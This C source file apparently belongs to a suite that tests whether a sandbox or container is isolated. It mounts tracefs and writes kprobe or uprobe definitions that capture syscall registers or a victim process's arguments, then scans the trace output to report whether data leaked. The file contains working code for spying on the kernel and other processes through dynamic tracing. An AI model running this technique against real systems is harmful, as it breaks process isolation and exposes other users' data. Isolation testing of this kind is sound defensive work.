/*
 * probe.c - dynamic probes by tracefs: a text file writes a program into the kernel, or into the victim.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

#include "arch.h"

enum { WAIT_MS = 2000, STEP_MS = 100, LINE = 512, PATH_ROOM = 160 };

static int mount_trace(char at[32])
{
	(void)strcpy(at, "/tmp/attack.XXXXXX");
	if (mkdtemp(at) == NULL)
		return -errno;
	return mount("tracefs", at, "tracefs", 0, NULL) < 0 ? -errno : 0;
}

static void path_of(char path[PATH_ROOM], const char *at, const char *name)
{
	(void)snprintf(path, PATH_ROOM, "%s/%s", at, name);
}

/* "... a=0x6361 b=0x... ": numbers as the bytes that they were. */
static int saw_numbers(const struct attack *a, const char *line)
{
	uint64_t words[4] = { 0 };
	const char *at = line;

	for (int i = 0; i < 4 && (at = strstr(at, "=0x")) != NULL; i++)
		words[i] = strtoull(at + 1, (char **)&at, 16);
	return saw(a, words, sizeof(words));
}

static int read_trace(const struct attack *a, const char *at)
{
	char path[PATH_ROOM], line[LINE];
	int result = -ENODATA;
	FILE *from;

	path_of(path, at, "trace");
	from = fopen(path, "r");
	if (from == NULL)
		return -errno;
	while (result != LEAKED && fgets(line, sizeof(line), from) != NULL) {
		const char *ours = strstr(line, "stolen");

		if (ours == NULL)
			continue;
		result = saw(a, line, strlen(line));
		if (result != LEAKED)
			result = saw_numbers(a, ours);
	}
	(void)fclose(from);
	return result;
}

static int probe(struct attack *a)
{
	char at[32], path[PATH_ROOM], text[LINE], group[32];
	int result = mount_trace(at);

	if (result < 0)
		return result;
	(void)snprintf(group, sizeof(group), "attack%d", (int)getpid());
	if (a->row->text[0] == 'u')
		(void)snprintf(text, sizeof(text), "p:%s/stolen %s:0x%llx text=%s", group, a->target.exe, a->target.nap,
			       ARCH_PROBE_STRING);
	else
		(void)snprintf(text, sizeof(text), "p:%s/stolen %s %s", group, ARCH_PROBE_SYSCALL, ARCH_PROBE_HELD);
	path_of(path, at, a->row->text + 2);
	result = put_text(path, text);
	if (result < 0)
		return result;
	(void)snprintf(path, sizeof(path), "%s/events/%s/stolen/enable", at, group);
	result = put_text(path, "1");
	for (int waited = 0; result >= 0 && result != LEAKED && waited < WAIT_MS; waited += STEP_MS) {
		moment(STEP_MS);
		result = read_trace(a, at);
		if (result == -ENODATA)
			result = 0;
	}
	(void)put_text(path, "0");
	path_of(path, at, a->row->text + 2);
	(void)snprintf(text, sizeof(text), "-:%s/stolen", group);
	int fd = open_path(path, O_WRONLY | O_APPEND);

	if (fd >= 0 && write(fd, text, strlen(text)) < 0)
		perror("attack: the probe stays");
	return result == 0 ? ALLOWED : result;
}

#define PROBE(id, says, file) \
	{ .name = id, .vector = "tracefs_probe", .what = says, .run = probe, .text = file, \
	  .flags = EVERYBODY | HITS_MACHINE | MOUNTS }

const struct row probe_rows[] = {
	PROBE("kprobe_events", "a system call's registers, by kprobe_events", "k:kprobe_events"),
	PROBE("kprobe_dynamic", "the same, by dynamic_events", "k:dynamic_events"),
	PROBE("uprobe_events", "an argument in the victim, by uprobe_events", "u:uprobe_events"),
	PROBE("uprobe_dynamic", "the same, by dynamic_events", "u:dynamic_events"),
	{ 0 },
};
